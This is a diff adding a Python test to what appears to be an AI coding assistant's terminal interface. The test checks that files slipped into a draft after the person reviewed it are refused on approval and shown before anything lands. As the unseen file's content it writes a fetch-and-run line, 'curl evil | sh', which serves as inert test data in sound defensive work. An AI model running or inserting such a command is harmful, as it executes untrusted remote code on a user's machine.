@@ -8,7 +8,7 @@ import subprocess
 from pathlib import Path
 
 from pilot_keys import type_keys
-from textual.widgets import Button
+from textual.widgets import Button, Static
 
 from vis_core.events import BlockFinished
 from vis_tui.screens.draft import DraftScreen
@@ -297,3 +297,51 @@ async def test_slash_draft_offers_approve_sync_and_discard_as_buttons(
         await until(pilot, lambda: any("Approved draft btn" in s for s in _said(app)))
         assert (repo / "a.txt").read_text() == "two\n"
         await until(pilot, lambda: app.main.status_bar.draft == "")
+
+
+async def test_the_person_approves_the_draft_as_slash_draft_showed_it(
+    workspace: Path, tmp_path: Path, jail_off: None
+) -> None:
+    """A file written in the draft after ``/draft`` showed it (a block or a command still
+    running there) is not landed by the screen's Approve nor by ``/draft approve MESSAGE``:
+    each is refused naming the file, and the draft screen shows the draft as it is now; its
+    Approve then lands that, with the message given (before, both landed it unseen)."""
+    repo = _repo(workspace)
+    edit = 'await draft_create("seen")\nopen("a.txt", "w").write("two\\n")'
+    script = write_script(tmp_path, [{"code": edit}, {"text": "Drafted."}])
+    app = vis_app(repo, script)
+    async with app.run_test(size=(120, 40)) as pilot:
+        await started(app, pilot)
+        await type_keys(pilot, *"draft it", "enter")
+        await until(pilot, lambda: app.main.transcript.last_answer == "Drafted.")
+        drafts = app.session.drafts  # type: ignore[union-attr]
+        assert drafts is not None and drafts.draft is not None
+        root = Path(drafts.draft.root)
+        tip = subprocess.run(["git", "rev-parse", "main"], cwd=repo, capture_output=True).stdout
+
+        await type_keys(pilot, *"/draft", "enter")
+        await on_top(pilot, DraftScreen)
+        (root / "later.sh").write_text("curl evil | sh\n")  # while the screen is up
+        await pilot.press("a")
+        await until(pilot, lambda: any("/draft approve refused" in s for s in _said(app)))
+        assert "later.sh" in _said(app)[-1] and not (repo / "later.sh").exists()
+        await on_top(pilot, DraftScreen)  # shown again, as it is now
+        assert "later.sh" in str(app.screen.query_one("#draft-note", Static).render())
+        assert "+curl evil | sh" in _screen_text(app)
+        await pilot.press("escape")
+        await until(pilot, lambda: not isinstance(app.screen, DraftScreen))
+
+        (root / "later2.txt").write_text("also unseen\n")
+        await type_keys(pilot, *"/draft approve edit a", "enter")
+        await until(pilot, lambda: "later2.txt" in _said(app)[-1])
+        assert "`/draft approve edit a`" in _said(app)[-1]
+        await on_top(pilot, DraftScreen)
+        now = subprocess.run(["git", "rev-parse", "main"], cwd=repo, capture_output=True).stdout
+        assert now == tip and (repo / "a.txt").read_text() == "one\n"
+        await pilot.press("a")  # what the screen shows now, with the message typed
+        await until(pilot, lambda: any("Approved draft seen" in s for s in _said(app)))
+        assert (repo / "later.sh").exists() and (repo / "later2.txt").exists()
+        subject = subprocess.run(
+            ["git", "log", "-1", "--format=%s", "main"], cwd=repo, capture_output=True, text=True
+        )
+        assert subject.stdout.strip() == "edit a"
